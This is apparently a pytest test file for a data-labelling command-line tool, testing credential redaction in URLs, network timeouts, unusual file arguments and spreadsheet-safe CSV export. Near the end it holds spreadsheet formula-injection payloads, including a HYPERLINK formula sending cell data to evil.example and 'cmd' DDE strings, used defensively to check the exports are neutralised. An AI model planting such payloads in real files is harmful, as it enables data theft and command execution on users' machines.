"""Classes of defects an adversarial pass found (issue 17), each tested as a class.

- **Secrets in URLs**: every option of every command that names a storage location or server,
  and every storage entry point of the library, refuses a URL with embedded credentials (user
  info, a signed query, in any link of a chained URL) at once, naming it redacted; nothing reaches
  Prefect.
- **Network waits**: every S3/HTTP path has connect and read timeouts and bounded retries; a
  refused port, an endpoint that accepts and never answers, and a slow one are tried with a time
  bound. An unreachable store is never read as an empty one.
- **File arguments**: directories, FIFOs, symbolic links, unreadable and read-only locations
  where a file or a writable location is expected.

Every refusal goes through the command line in-process and asserts the exit-2 contract of
``tests/integration/test_bad_input.py`` (one line, no traceback, nothing written).

"At once" is observed, not timed: no name looked up or connection tried beyond loopback, no flow
run started, no FIFO opened; "not retried" is the run counts Prefect records, and bounded retries
the connections an endpoint receives. Only the network deadlines, the contract a user relies on,
are timed (with a generous bound).
"""

from __future__ import annotations

import argparse
import re
import asyncio
import contextlib
import json
import time
from datetime import datetime, timedelta, timezone

import numpy as np
import pytest

import flows.evaluate_release  # noqa: F401 (Prefect configures its logging on import)
from tests.support.cli_run import cli
from prdist.cli import URL_OPTIONS, build_parser
from prdist.dataflow.labels.importer import import_labels, read_label_file
from prdist.dataflow.labels.store import lookup_labels
from prdist.dataflow.io.parquet import open_resource
from prdist.dataflow.io.publishing import write_bytes_exclusive
from prdist.dataflow.io.storage import resolve
from prdist.errors import InputError
from prdist.redaction import refuse_credentials
from tests.integration.test_bad_input import assert_refused
from tests.support.network import beyond_loopback, connections_to, record_attempts
from tests.support.prefect_runs import retried, started_since

pytestmark = pytest.mark.usefixtures("prefect_harness")

# --------------------------------------------------------------------------------------------
# Secrets in URLs

SECRET = "SECRETzq81"
HOSTILE_URLS = {
    "s3-user-info": f"s3://AKIAEXAMPLE:{SECRET}@bucket/kb",
    "https-user-info": f"https://alice:{SECRET}@example.org/kb",
    "user-only": f"s3://{SECRET}@bucket/kb",
    "signed-query": f"https://example.org/kb?part=1&X-Amz-Signature={SECRET}",
    "credential-query": f"s3://bucket/kb?X-Amz-Credential={SECRET}",
    "sas-token": f"abfs://container/kb?sv=2020&sig={SECRET}",
    "chained": f"simplecache::s3://AKIAEXAMPLE:{SECRET}@bucket/kb",
}

#: A valid command line per sub-command, with a slot for every URL-taking option.
BASE_ARGV = {
    "run": ["run", "--resource", "/r", "--out", "/o", "--labels", "/l"],
    "synth": ["synth", "--n", "10", "--seed", "1", "--out", "/o"],
    "compare": ["compare", "--system", "a=/r", "--labels", "/l", "--budget", "4", "--seed", "0", "--out", "/o",
                "--exhaustive", "/e.csv"],
    "labels import": ["labels", "import", "--store", "/s", "/f.csv", "--resource", "/r", "--annotator-map", "/m.json"],
    "labels export": ["labels", "export", "--run", "/d", "--out", "/f.csv", "--join", "/j.txt"],
    "labels fill": ["labels", "fill", "/t.csv", "--out", "/f.csv", "--from", "/v.tsv", "--rest", "skip"],
    "labels status": ["labels", "status", "--store", "/s", "--resource", "/r"],
    "release": ["release", "--resource", "/r", "--labels", "/l", "--out", "/o", "--api-url", "http://127.0.0.1:1/api",
                "--dry-run"],
    "history": ["history", "--runs", "/r", "--out", "/o"],
    "ingest": ["ingest", "/f.csv", "--out", "/o", "--score", "s", "--key", "k"],
}
URL_METAVARS = {"URL", "FILE", "DIR", "NAME=URL", "FILE_OR_URL"}


def _commands(parser: argparse.ArgumentParser, prefix=()):
    """(command words, parser) of every leaf sub-command."""
    subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    if not subs:
        yield prefix, parser
    for action in subs:
        for name, child in action.choices.items():
            yield from _commands(child, (*prefix, name))


def _url_actions():
    for words, parser in _commands(build_parser()):
        for action in parser._actions:
            if action.metavar in URL_METAVARS:
                yield " ".join(words), action


def _hostile_argv(command: str, action: argparse.Action, url: str) -> list[str]:
    argv = list(BASE_ARGV[command])
    if action.option_strings:
        slot = argv.index(action.option_strings[0]) + 1
    else:  # the positional files (label files, ingest sources)
        slot = argv.index("/f.csv")
    argv[slot] = f"a={url}" if action.dest == "systems" else url
    return argv


URL_CASES = [(command, action) for command, action in _url_actions()]


def test_every_url_option_of_every_command_is_checked():
    """The class is closed: an option that names a location is in the CLI's table of URL options."""
    assert URL_CASES, "no URL options found"
    for command, action in URL_CASES:
        assert action.dest in URL_OPTIONS, f"{command} {action.option_strings or action.dest} is not checked"
        assert command in BASE_ARGV


@pytest.mark.parametrize("form", sorted(HOSTILE_URLS))
@pytest.mark.parametrize("command, action", URL_CASES, ids=[f"{c}-{a.dest}" for c, a in URL_CASES])
def test_a_url_with_credentials_is_refused_at_once_and_redacted(command, action, form, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    since = datetime.now(timezone.utc) - timedelta(seconds=1)
    attempts = record_attempts(monkeypatch)
    message = assert_refused(_hostile_argv(command, action, HOSTILE_URLS[form]), says=["embeds credentials", "storage options"],
                             absent=[SECRET], watched=[tmp_path])
    # At once: refused before anything reached for the store (no name looked up, no connection).
    assert beyond_loopback(attempts) == [], "the refusal was not immediate: the command reached for the network first"
    assert "***" in message or "(not shown)" in message
    assert not list(tmp_path.iterdir()), "a refused command wrote something"
    if command == "run" and form == "s3-user-info":
        assert asyncio.run(_flow_runs_since(since)) == [], "a refused run reached Prefect"


async def _flow_runs_since(since: datetime) -> list:
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterExpectedStartTime

    async with get_client() as client:
        runs = await client.read_flow_runs(
            flow_run_filter=FlowRunFilter(expected_start_time=FlowRunFilterExpectedStartTime(after_=since)), limit=50)
    return [run for run in runs if SECRET in run.model_dump_json()]


STORAGE_ENTRY_POINTS = {
    "resolve": lambda url: resolve(url),
    "open_resource": lambda url: open_resource(url),
    "lookup_labels": lambda url: lookup_labels(url, [1, 2]),
    "import_labels-store": lambda url: import_labels(url, ["/nonexistent/labels.csv"]),
    "read_label_file": lambda url: read_label_file(url),
    "write_bytes_exclusive": lambda url: write_bytes_exclusive(url, b"x"),
}


@pytest.mark.parametrize("form", sorted(HOSTILE_URLS))
@pytest.mark.parametrize("entry", sorted(STORAGE_ENTRY_POINTS))
def test_every_storage_entry_point_refuses_credentials_in_urls(entry, form):
    with pytest.raises(InputError, match="embeds credentials") as info:
        STORAGE_ENTRY_POINTS[entry](HOSTILE_URLS[form])
    assert SECRET not in str(info.value)


@pytest.mark.parametrize("options", [
    {"endpoint_url": f"http://admin:{SECRET}@127.0.0.1:1"},
    {"client_kwargs": {"endpoint_url": f"http://admin:{SECRET}@127.0.0.1:1"}},
])
def test_an_endpoint_url_with_credentials_is_refused(options):
    with pytest.raises(InputError, match="storage option .* embeds credentials") as info:
        resolve("s3://bucket/kb", storage_options=options)
    assert SECRET not in str(info.value)


@pytest.mark.parametrize("url", ["s3://bucket/kb", "https://example.org/kb?part=1&versionId=3", "/data/user@host/kb",
                                 "file:///data/kb", "simplecache::s3://bucket/kb", "relative/with:colon"])
def test_urls_without_credentials_pass(url):
    assert refuse_credentials(url) == url


# --------------------------------------------------------------------------------------------
# Network waits: refused, silent and slow endpoints, on loopback


class Endpoint:
    """A loopback TCP endpoint that misbehaves in one way; ``url`` is its http:// address.

    - ``refused``: nothing listens on the port;
    - ``silent``: connections are accepted and never answered;
    - ``dribbling``: an answer starts and never ends (a header growing by one byte every 0.2 s),
      so no single read waits long enough for a read timeout;
    - ``slow``: a proxy to ``upstream`` that holds every answer back for ``delay`` seconds.
    """

    def __init__(self, kind: str, upstream: str | None = None, delay: float = 0.0):
        import socket
        import threading

        self.kind, self.delay, self.closed = kind, delay, threading.Event()
        self.upstream = upstream
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.connections = []
        if kind == "refused":
            self.sock.close()
            return
        self.sock.listen(64)
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        import threading

        while not self.closed.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections.append(conn)
            if self.kind != "silent":
                threading.Thread(target=getattr(self, f"_{self.kind}"), args=(conn,), daemon=True).start()

    def _dribbling(self, conn):
        conn.recv(65536)
        try:
            conn.sendall(b"HTTP/1.1 200 OK\r\nX-Slow: ")  # a header that never ends
            while not self.closed.wait(0.2):
                conn.sendall(b"a")
        except OSError:
            pass

    def _slow(self, conn):
        import socket
        import threading
        from urllib.parse import urlsplit

        host, port = urlsplit(self.upstream).hostname, urlsplit(self.upstream).port
        upstream = socket.create_connection((host, port))
        self.connections.append(upstream)

        def pump(src, dst, delay):
            try:
                while data := src.recv(65536):
                    if delay:
                        time.sleep(delay)
                    dst.sendall(data)
            except OSError:
                pass
            finally:
                for s in (src, dst):
                    with contextlib.suppress(OSError):
                        s.shutdown(socket.SHUT_RDWR)

        threading.Thread(target=pump, args=(conn, upstream, 0.0), daemon=True).start()
        pump(upstream, conn, self.delay)

    def close(self):
        self.closed.set()
        for conn in [self.sock, *self.connections]:
            with contextlib.suppress(OSError):
                conn.close()


@pytest.fixture
def endpoint():
    made = []

    def make(kind, **kwargs):
        made.append(Endpoint(kind, **kwargs))
        return made[-1]

    yield make
    for e in made:
        e.close()


@pytest.fixture
def short_network_bounds(monkeypatch):
    """Timeouts of a second or so, so that a test of a silent endpoint takes seconds."""
    from prdist.dataflow.io import storage

    monkeypatch.setattr(storage, "CONNECT_TIMEOUT", 1.0)
    monkeypatch.setattr(storage, "READ_TIMEOUT", 1.0)
    monkeypatch.setattr(storage, "S3_ATTEMPTS", 1)
    import s3fs

    s3fs.S3FileSystem.clear_instance_cache()
    yield
    s3fs.S3FileSystem.clear_instance_cache()


NETWORK_CASES = [(c, a) for c, a in URL_CASES if c != "release"]

#: The most seconds a command may take to give up on a bad endpoint under ``short_network_bounds``.
#: Timed on purpose: a reachability check that ends within CONNECT_TIMEOUT + READ_TIMEOUT is the
#: contract a user relies on (a silent or dribbling endpoint never ends a wait by itself). Generous
#: for start-up on a loaded machine, yet far below what a lost deadline costs: botocore's 60 s
#: timeouts, aiohttp's 5 min, or for a dribbling endpoint, never.
GIVE_UP_SECONDS = 30


@pytest.mark.parametrize("kind", ["refused", "silent", "dribbling"])
@pytest.mark.parametrize("command, action", NETWORK_CASES, ids=[f"{c}-{a.dest}" for c, a in NETWORK_CASES])
def test_every_s3_option_gives_up_on_a_bad_endpoint_within_a_bound(command, action, kind, endpoint, short_network_bounds, tmp_path,
                                                                 monkeypatch):
    monkeypatch.chdir(tmp_path)
    bad = endpoint(kind)
    options = json.dumps({"key": "k", "secret": "s", "endpoint_url": bad.url})
    argv = [*_hostile_argv(command, action, "s3://bucket/there"), "--storage-options", options]
    started = time.monotonic()
    assert_refused(argv, says=["cannot reach" if kind != "refused" else "cannot", "s3://bucket/there",
                               "endpoint", "server is running"], watched=[tmp_path])
    elapsed = time.monotonic() - started
    assert elapsed < GIVE_UP_SECONDS, f"gave up after {elapsed:.1f} s"


@pytest.mark.parametrize("kind", ["refused", "silent", "dribbling"])
def test_an_http_resource_on_a_bad_endpoint_is_given_up_within_a_bound(kind, endpoint, short_network_bounds, tmp_path):
    bad = endpoint(kind)
    started = time.monotonic()
    assert_refused(["run", "--resource", f"{bad.url}/kb/part-0.parquet", "--out", str(tmp_path / "runs")],
                   says=["cannot", "endpoint"], watched=[tmp_path])
    assert time.monotonic() - started < GIVE_UP_SECONDS


@pytest.mark.parametrize("kind", ["refused", "silent"])
@pytest.mark.parametrize("store", ["s3://bucket/store", "s3://bucket"])
def test_an_unreachable_label_store_is_an_error_never_an_empty_store(kind, store, endpoint, short_network_bounds, monkeypatch):
    import s3fs

    from prdist.dataflow.io import storage
    from prdist.dataflow.io.storage_errors import StorageUnavailable

    bad = endpoint(kind)
    attempts = record_attempts(monkeypatch)
    started = time.monotonic()
    with pytest.raises(StorageUnavailable, match="cannot be reached or does not answer"):
        lookup_labels(store, [1, 2, 3], storage_options={"key": "k", "secret": "s", "endpoint_url": bad.url})
    # Bounded retries, counted: s3fs's own loop (its ``retries`` tries) times botocore's attempts;
    # and each bounded in time, which a lost read timeout on the silent endpoint would break.
    tries = connections_to(attempts, bad.port)
    assert time.monotonic() - started < GIVE_UP_SECONDS, "a connection waited past its timeout"
    assert 1 <= tries <= s3fs.S3FileSystem.retries * storage.S3_ATTEMPTS, f"{tries} connections"


def test_every_s3_filesystem_has_timeouts_and_bounded_retries():
    from prdist.dataflow.io import storage

    fs = resolve("s3://bucket/kb", storage_options={"anon": True}).fs
    config = fs._prepare_config_kwargs()
    assert config["connect_timeout"] == storage.CONNECT_TIMEOUT and config["read_timeout"] == storage.READ_TIMEOUT
    assert config["retries"] == {"total_max_attempts": storage.S3_ATTEMPTS, "mode": "standard"}
    # What the user sets wins.
    mine = resolve("s3://bucket/kb", storage_options={"anon": True, "config_kwargs": {"read_timeout": 99}}).fs
    assert mine._prepare_config_kwargs()["read_timeout"] == 99
    http = resolve("https://example.org/kb.parquet").fs
    assert http.client_kwargs["timeout"].sock_read == storage.READ_TIMEOUT


def test_a_slow_store_that_answers_within_the_timeouts_works(s3_server, s3_url, endpoint, tmp_path, monkeypatch):
    from prdist.dataflow.io import storage

    monkeypatch.setattr(storage, "READ_TIMEOUT", 2.0)
    slow = endpoint("slow", upstream=s3_server.endpoint_url, delay=0.5)
    options = {**s3_server.storage_options, "endpoint_url": slow.url}
    labels = tmp_path / "labels.csv"
    labels.write_text("key,label\n1,1\n2,0\n")
    code, out, err = cli("labels", "import", "--store", f"{s3_url}/store", str(labels), "--storage-options", json.dumps(options))
    assert code == 0, err
    found = lookup_labels(f"{s3_url}/store", [1, 2, 3], storage_options=options)
    assert found.labels.tolist()[:2] == [1.0, 0.0] and found.missing == 1


# --------------------------------------------------------------------------------------------
# File arguments: directories, FIFOs, symbolic links, unreadable and read-only locations


class Fifos:
    """Makes FIFOs and watches them for a reader: a reader's ``open`` blocks until a writer comes,
    so a watcher that finds one (a non-blocking open for writing succeeds only then) records the
    path in :attr:`opened` and writes a line, so that a regression fails instead of hanging."""

    def __init__(self):
        import threading

        self.opened, self.done = [], threading.Event()

    def __call__(self, path: str) -> str:
        import os
        import threading

        os.mkfifo(path)
        threading.Thread(target=self._watch, args=(path,), daemon=True).start()
        return path

    def _watch(self, path: str) -> None:
        import errno
        import os

        serving = False  # a reader was found and given its line, and has not closed the FIFO yet
        while not self.done.wait(0.01):
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:  # ENXIO: no reader; ENOENT: the test removed it
                if exc.errno != errno.ENXIO:
                    return
                serving = False
                continue
            if not serving:
                self.opened.append(path)
                with contextlib.suppress(OSError):
                    os.write(fd, b"not,a,label,file\n")
                serving = True
            os.close(fd)


@pytest.fixture
def fifo():
    """Make FIFOs (``fifo(path)``); ``fifo.opened`` lists those something opened for reading."""
    fifos = Fifos()
    yield fifos
    fifos.done.set()


@pytest.fixture
def read_only_dir(tmp_path):
    """A directory nothing can be written into: a read-only mount (root), or mode 0555."""
    import os
    import subprocess

    path = tmp_path / "read-only"
    path.mkdir()
    if os.geteuid() != 0:
        path.chmod(0o555)
        yield path
        path.chmod(0o755)
        return
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(path)], capture_output=True)
    if mounted.returncode != 0:
        pytest.skip(f"root cannot mount a read-only filesystem here: {mounted.stderr.decode().strip()}")
    try:
        yield path
    finally:
        subprocess.run(["umount", str(path)], check=True)


@contextlib.contextmanager
def unprivileged():
    """Run the block as user 'nobody' (when root: file modes do not stop root)."""
    import os

    if os.geteuid() != 0:
        yield
        return
    os.setegid(65534)
    os.seteuid(65534)
    try:
        yield
    finally:
        os.seteuid(0)
        os.setegid(0)


def _world_dir():
    """A directory 'nobody' can reach (pytest's tmp_path is private to root)."""
    import tempfile
    from pathlib import Path

    path = Path(tempfile.mkdtemp(prefix="prdist-world-"))
    path.chmod(0o755)
    return path


def _labels_csv(path):
    path.write_text("key,label\n1,1\n4,0\n")
    return path


def _small_resource(root, files=1, columns=None):
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    root.mkdir(parents=True, exist_ok=True)
    for i in range(files):
        keys = np.arange(i * 100, (i + 1) * 100)
        table = {"key": keys, "score": np.linspace(1, 0, 100) - i, "label": (keys % 3 == 0).astype("int8")}
        table.update(columns(i) if columns else {})
        pq.write_table(pa.table(table), root / f"part-{i}.parquet")
    return root


def test_a_label_file_that_is_a_fifo_or_a_directory_is_refused_at_once(tmp_path, fifo):
    store = tmp_path / "store"
    (tmp_path / "labels-dir.csv").mkdir()
    fifo(str(tmp_path / "labels.csv"))
    for bad, says in ((tmp_path / "labels.csv", "is a fifo, not a regular file"),
                      (tmp_path / "labels-dir.csv", "is a directory where a file was expected")):
        assert_refused(["labels", "import", "--store", str(store), str(bad)], says=[says, "label file"], watched=[tmp_path])
        with pytest.raises(InputError, match="not a regular file|is a directory"):
            read_label_file(str(bad))  # also compare's --exhaustive file
    assert fifo.opened == [], "the FIFO was opened for reading: a command would wait there for a writer"
    assert not store.exists()


def test_a_symlinked_label_file_is_followed_and_a_broken_one_refused(tmp_path):
    import os

    real = _labels_csv(tmp_path / "real.csv")
    os.symlink(real, tmp_path / "link.csv")
    os.symlink(tmp_path / "nowhere.csv", tmp_path / "broken.csv")
    assert read_label_file(str(tmp_path / "link.csv")).verdicts["key"].tolist() == ["1", "4"]
    assert_refused(["labels", "import", "--store", str(tmp_path / "store"), str(tmp_path / "broken.csv")],
                   says=["broken symbolic link"], watched=[tmp_path])


def test_an_annotation_file_that_is_a_fifo_or_a_directory_is_refused(tmp_path, fifo):
    from prdist.dataflow.labels.task import write_annotation_file

    run = tmp_path / "run"
    run.mkdir()
    (run / "manifest.json").write_text("{}")
    (tmp_path / "task.csv").mkdir()
    fifo(str(tmp_path / "task.jsonl"))
    for out, says in ((tmp_path / "task.csv", "is a directory"), (tmp_path / "task.jsonl", "is a fifo")):
        assert_refused(["labels", "export", "--run", str(run), "--out", str(out)], says=[says, "annotation file"], watched=[run])
        with pytest.raises(InputError):
            write_annotation_file(str(run), str(out))
    assert fifo.opened == [], "the FIFO was opened for reading"


def test_symlinked_parquet_files_and_directories_are_followed(tmp_path):
    import os

    plain = _small_resource(tmp_path / "plain", files=3)
    linked = tmp_path / "linked"
    linked.mkdir()
    os.symlink(plain / "part-0.parquet", linked / "part-0.parquet")  # a linked file
    (linked / "more").mkdir()
    os.symlink(plain / "part-1.parquet", linked / "more" / "part-1.parquet")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.symlink(plain / "part-2.parquet", elsewhere / "part-2.parquet")
    os.symlink(elsewhere, linked / "sub")  # a linked directory
    os.symlink(linked, tmp_path / "root-link")  # the resource itself a link
    reference = open_resource(str(plain))
    for url in (linked, tmp_path / "root-link"):
        resource = open_resource(str(url))
        assert resource.n == reference.n == 300 and len(resource.files) == 3


@pytest.mark.parametrize("damage, says", [
    ("broken-link", "broken symbolic link"),
    ("fifo-part", "is a fifo, not a regular file"),
    ("same-file-twice", "are one file"),
    ("link-loop", "are one (symbolic links lead there twice, or loop)"),
    ("fifo-resource", "is a fifo, not a regular file"),
])
def test_parquet_files_that_cannot_be_read_as_they_are_named_are_refused(damage, says, tmp_path, fifo, dask_client):
    import os

    root = _small_resource(tmp_path / "resource", files=2)
    if damage == "broken-link":
        os.symlink(tmp_path / "gone.parquet", root / "part-9.parquet")
    elif damage == "fifo-part":
        fifo(str(root / "part-9.parquet"))
    elif damage == "same-file-twice":
        os.symlink(root / "part-0.parquet", root / "part-9.parquet")
    elif damage == "link-loop":
        os.symlink(root, root / "again")
    else:
        root = tmp_path / "resource.parquet"
        fifo(str(root))
    since = datetime.now(timezone.utc)
    assert_refused(["run", "--resource", str(root), "--out", str(tmp_path / "runs"), "--oracle-column", "label",
                    "--scheduler", dask_client.scheduler.address], says=[says], watched=[tmp_path])
    assert _runs_since(since) == [], "not refused at once: a flow run started"
    assert fifo.opened == [], "a FIFO was opened for reading"
    with pytest.raises(InputError, match="(?i)" + re.escape(says)):
        open_resource(str(root))


def test_files_with_different_columns_are_refused_at_once_naming_file_and_column(tmp_path, dask_client):
    from prdist.errors import DataError

    root = _small_resource(tmp_path / "resource", files=2, columns=lambda i: {"text": [f"t{k}" for k in range(100)]} if i == 0 else {})
    since = datetime.now(timezone.utc)
    assert_refused(["run", "--resource", str(root), "--out", str(tmp_path / "runs"), "--oracle-column", "label",
                    "--scheduler", dask_client.scheduler.address],
                   says=["part-1.parquet lacks the column 'text'", "part-0.parquet has", "same columns"], watched=[tmp_path])
    assert _runs_since(since) == [], "not refused at once: a flow run started"
    with pytest.raises(DataError, match="lacks the column 'text'"):
        open_resource(str(root))
    typed = _small_resource(tmp_path / "typed", files=2, columns=lambda i: {"text": [f"t{k}" if i == 0 else k for k in range(100)]})
    with pytest.raises(DataError, match="The column 'text' is int64 in .*part-1.parquet and string"):
        open_resource(str(typed))


def test_a_read_only_label_store_and_output_are_refused_at_once(tmp_path, read_only_dir, dask_client):
    labels = _labels_csv(tmp_path / "labels.csv")
    since = datetime.now(timezone.utc)
    started = time.monotonic()
    assert_refused(["labels", "import", "--store", str(read_only_dir / "store"), str(labels)],
                   says=["cannot write", "read-only" if _is_mount(read_only_dir) else "permission denied"], watched=[tmp_path])
    # labels import and export start no flow run, so no run can show a retry: they are timed
    # (generously: a retry of the write waits longer than this bound).
    assert time.monotonic() - started < GIVE_UP_SECONDS, "labels import retried a write that cannot succeed"
    resource = _small_resource(tmp_path / "resource")
    assert_refused(["run", "--resource", str(resource), "--out", str(read_only_dir / "runs"), "--oracle-column", "label",
                    "--scheduler", dask_client.scheduler.address],
                   says=["cannot write", "read-only" if _is_mount(read_only_dir) else "permission denied"], watched=[tmp_path])
    run = tmp_path / "run"
    run.mkdir()
    (run / "manifest.json").write_text("{}")
    started = time.monotonic()
    assert_refused(["labels", "export", "--run", str(run), "--out", str(read_only_dir / "task.csv")],
                   says=["cannot write"], watched=[tmp_path])
    assert time.monotonic() - started < GIVE_UP_SECONDS, "labels export retried a write that cannot succeed"
    assert retried(_runs_since(since)) == [], "a permission that does not fix itself was retried"


def _runs_since(since: datetime) -> list:
    """The flow runs and task runs that started since ``since`` on the test's Prefect API."""
    from prefect.client.orchestration import get_client

    with get_client(sync_client=True) as client:
        return started_since(client, since)


def _is_mount(path) -> bool:
    import os

    return os.path.ismount(path)


def test_unreadable_label_files_and_resources_are_refused_at_once():
    world = _world_dir()
    labels = _labels_csv(world / "labels.csv")
    labels.chmod(0o000)
    resource = _small_resource(world / "resource", files=2)
    (resource / "part-1.parquet").chmod(0o000)
    hidden = _small_resource(world / "hidden", files=1)
    (hidden / "inner").mkdir()
    (hidden / "inner").chmod(0o000)
    store = world / "store"
    store.mkdir()
    store.chmod(0o777)
    with unprivileged():
        code, out, err = cli("labels", "import", "--store", str(store), str(labels))
        with pytest.raises(InputError, match="permission denied") as opened:
            open_resource(str(resource))
        with pytest.raises(InputError, match="permission denied") as listed:
            open_resource(str(hidden))
    assert code == 2 and err.startswith("prdist: error: ") and "permission denied" in err and len(err.splitlines()) == 1, err
    assert "part-1.parquet" in str(opened.value) and "hidden" in str(listed.value)
    assert not list(store.iterdir())


# --------------------------------------------------------------------------------------------
# One message, in the command line's terms


def test_a_flow_error_is_said_once_in_the_command_lines_terms(tmp_path, dask_client):
    root = _small_resource(tmp_path / "resource")
    code, out, err = cli("run", "--resource", str(root), "--out", str(tmp_path / "runs"), "--key", "id",
                         "--oracle-column", "label", "--scheduler", dask_client.scheduler.address)
    assert code == 2, err
    assert err.count("has no key column 'id'") == 1, err  # not repeated by Prefect's task and flow logs
    assert "--key" in err and "key=" not in err


# --------------------------------------------------------------------------------------------
# Exported files that a spreadsheet executes or a CSV reader splits

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "\tTAB", "\rCR", "a\rb", "a\nb", "'=already quoted", "''+twice", "'plain apostrophe", "plain",
                 "-1000", 'quote " inside', "comma, inside"]
HOSTILE_HEADER = "=cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _hostile_resource(root):
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    root.mkdir(parents=True)
    n = len(HOSTILE_CELLS)
    keys = [*HOSTILE_CELLS, *[f"k{i}" for i in range(40 - n)]]
    table = pa.table({"key": keys, "score": np.linspace(1, 0, len(keys)), "text": list(reversed(keys)),
                      HOSTILE_HEADER: keys})
    pq.write_table(table, root / "part-0.parquet")
    return keys


def _cells(data: bytes) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _fill(data: bytes, *, drop_apostrophes: bool) -> str:
    """The task with every label set to 1, as a script or an editor saves it; optionally as a
    spreadsheet that keeps the apostrophe escape out of the saved values."""
    import csv
    import io

    from prdist.dataflow.io.spreadsheet_csv import restore

    rows = _cells(data)
    at = rows[0].index("label")
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(rows[0])
    for row in rows[1:]:
        row[at] = "1"
        writer.writerow([restore(c) for c in row] if drop_apostrophes else row)
    return out.getvalue()


def test_every_exported_csv_is_spreadsheet_safe_and_imports_back_to_the_original_keys(tmp_path, dask_client):
    from pathlib import Path

    keys = _hostile_resource(tmp_path / "resource")
    (tmp_path / "store").mkdir()  # an empty store
    code, out, err = cli("run", "--resource", str(tmp_path / "resource"), "--out", str(tmp_path / "runs"),
                         "--labels", str(tmp_path / "store"), "--confidence", "none", "--scheduler", dask_client.scheduler.address)
    assert code == 3, err
    run = Path(out.strip().splitlines()[-1])
    assert cli("labels", "export", "--run", str(run), "--out", str(tmp_path / "export.csv"))[0] == 0
    exports = {"annotation_task.csv": (run / "annotation_task.csv").read_bytes(),
               "labels export": (tmp_path / "export.csv").read_bytes()}
    for name, data in exports.items():
        rows = _cells(data)
        assert len(rows) == len(keys) + 1, f"{name}: a line break split a row"
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START), f"{name}: {cell!r} would be a formula"
        for drop in (False, True):
            filled = tmp_path / f"filled-{name.replace(' ', '-')}-{drop}.csv"
            filled.write_text(_fill(data, drop_apostrophes=drop), newline="")
            store = tmp_path / f"store-{name.replace(' ', '-')}-{drop}"
            code, _, err = cli("labels", "import", "--store", str(store), str(filled))
            assert code == 0, err
            # Exact when the file keeps the escape; when it was dropped, exact for every key that does
            # not itself start with an apostrophe (the documented limit of spreadsheet_csv).
            expected = [k for k in keys if not (drop and k.startswith("'"))]
            assert set(expected) <= set(read_label_file(str(filled)).verdicts["key"]), name
            found = lookup_labels(str(store), expected)
            assert found.missing == 0 and set(found.labels) == {1.0}, f"{name}: keys changed on the way back"


@pytest.mark.parametrize("keys, says", [
    (["a", "", "c"], "holds an empty key"),
    (np.array([2**64 - 1000, 1, 2], dtype=np.uint64), "unsigned key 18446744073709550616"),
], ids=["empty-string-key", "uint64-key-beyond-int64"])
def test_keys_that_cannot_be_shown_or_stored_as_they_are_are_refused_up_front(keys, says, tmp_path, dask_client):
    import pyarrow as pa
    import pyarrow.parquet as pq

    root = tmp_path / "resource"
    root.mkdir()
    pq.write_table(pa.table({"key": keys, "score": [0.9, 0.5, 0.1]}), root / "part-0.parquet")
    assert_refused(["run", "--resource", str(root), "--out", str(tmp_path / "runs"), "--scheduler", dask_client.scheduler.address],
                   says=[says], watched=[tmp_path])
    pq.write_table(pa.table({"key": keys, "score": [0.9, 0.5, 0.1]}), tmp_path / "no-stats.parquet", write_statistics=False)
    from prdist.dataflow.io.parquet_tasks import keys_of

    with pytest.raises(InputError, match=says):
        keys_of(pq.read_table(tmp_path / "no-stats.parquet"), "key", "no-stats.parquet")


def test_unsigned_keys_in_a_label_file_are_stored_as_they_are():
    from prdist.dataflow.labels.store import normalise_keys

    assert normalise_keys(np.array([2**64 - 1000], dtype=np.uint64)).tolist() == ["18446744073709550616"]
